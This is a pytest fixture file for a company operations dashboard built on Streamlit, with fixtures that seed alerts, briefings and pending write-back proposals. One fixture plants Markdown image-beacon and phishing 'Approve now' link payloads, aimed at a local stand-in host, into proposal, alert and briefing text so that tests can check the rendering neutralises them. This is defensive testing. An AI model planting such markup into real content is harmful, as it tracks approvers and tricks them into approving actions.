"""Dashboard fixtures: a private copy of the small company's marts and a tmp operational store."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

APP = Path(__file__).resolve().parents[2] / "apps" / "streamlit" / "streamlit_app.py"
PAGES = [
    "overview",
    "alerts",
    "briefings",
    "actions",
    "ask",
    "finance",
    "statements",
    "sales",
    "inventory",
    "customers",
    "expenses",
    "data_health",
]


@pytest.fixture
def dashboard_env(small_marts, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """COO_WAREHOUSE_URL at a copy of the small marts, COO_STATE_URL at a tmp SQLite file;
    returns the warehouse path."""
    path = small_marts.copy_to(tmp_path / "wh")
    monkeypatch.setenv("COO_WAREHOUSE_URL", f"duckdb:///{path}")
    monkeypatch.setenv("COO_STATE_URL", f"sqlite:///{tmp_path / 'state.db'}")
    monkeypatch.setenv("COO_DASHBOARD_AUTH", "local")
    monkeypatch.setenv("COO_OPERATOR", "ada")
    return path


@pytest.fixture
def open_page() -> Callable[..., AppTest]:
    """Run the app, switch to a page, and return the AppTest (asserting no exception)."""

    def _open(page: str, company: int | None = None, at: AppTest | None = None) -> AppTest:
        if at is None:
            at = AppTest.from_file(str(APP), default_timeout=60)
        if company is not None:
            at.session_state["company_id"] = company
        at.run()
        at.switch_page(f"app_pages/{page}.py").run()
        assert not at.exception, [e.value for e in at.exception]
        return at

    return _open


@pytest.fixture
def seeded(dashboard_env: Path, monkeypatch: pytest.MonkeyPatch):
    """Alerts, briefings (template, no LLM) and the pending proposals they submit, made by the
    real pipeline functions and services against the dashboard's warehouse copy."""
    from alerts.lifecycle import run_alerts
    from alerts.sources import MartReader
    from briefings.compose import run_briefings
    from odoo_api.warehouse import Warehouse
    from opstore import StateStore

    monkeypatch.setenv("COO_APPROVERS", "ada=coo,finance_manager;bob=sales_manager")
    monkeypatch.delenv("ANTHROPIC_API_KEY", raising=False)
    state = StateStore()
    with MartReader(Warehouse.from_url(f"duckdb:///{dashboard_env}")) as reader:
        run_alerts(state, reader)
        run_briefings(state, reader, use_llm=False)
    return state


#: what an attacker plants in text that reaches the dashboard (issue 15, finding 4)
BEACON = "http://127.0.0.1:18999/b.png"
PHISH = "http://127.0.0.1:18999/approve"
PAYLOAD = f"![status]({BEACON}?who=approver) [Approve now]({PHISH}) <img src={BEACON}> {PHISH}"


@pytest.fixture
def planted(seeded) -> dict[str, int]:
    """A pending proposal whose reasoning and requester carry Markdown image and link
    payloads, an alert titled with them, and every briefing's text ending with them:
    stored directly (as rows written before the guard refused them), so only the rendering
    stands between them and the approver."""
    from datetime import UTC, datetime

    from sqlalchemy import select

    from alerts.store import alerts
    from briefings.store import briefings
    from writeback.store import proposals

    now = datetime.now(UTC)
    with seeded.begin() as conn:
        pid = conn.execute(
            proposals.insert().values(
                skill="post_internal_note", company_id=1, model="res.partner", record_id=84,
                record_ids="[84]", params='{"body": "Orders stopped in July."}',
                reasoning=f"Urgent. {PAYLOAD}", source="api", requested_by=f"api:[x]({PHISH})",
                status="pending", policy="{}", autonomy="auto", risk="low",
                idempotency_key="coo-planted-000000000001", attempts=0,
                created_at=now, updated_at=now,
            )
        ).inserted_primary_key[0]  # fmt: skip
        aid = conn.execute(
            alerts.insert().values(
                alert_key="planted:1", rule_key="planted", family="stalled_deal", area="sales",
                priority="high", company_id=1, record_model="crm.lead", record_id=7,
                title=f"Deal {PAYLOAD} stalled", details="{}", status="new",
                first_seen_at=now.replace(tzinfo=None), last_seen_at=now.replace(tzinfo=None),
            )
        ).inserted_primary_key[0]  # fmt: skip
        newest = conn.execute(
            select(briefings.c.id).order_by(briefings.c.id.desc()).limit(1)
        ).scalar()
        conn.execute(briefings.update().values(body_text=briefings.c.body_text + f"\n{PAYLOAD}"))
    return {"proposal": int(pid), "alert": int(aid), "briefing": int(newest or 0)}
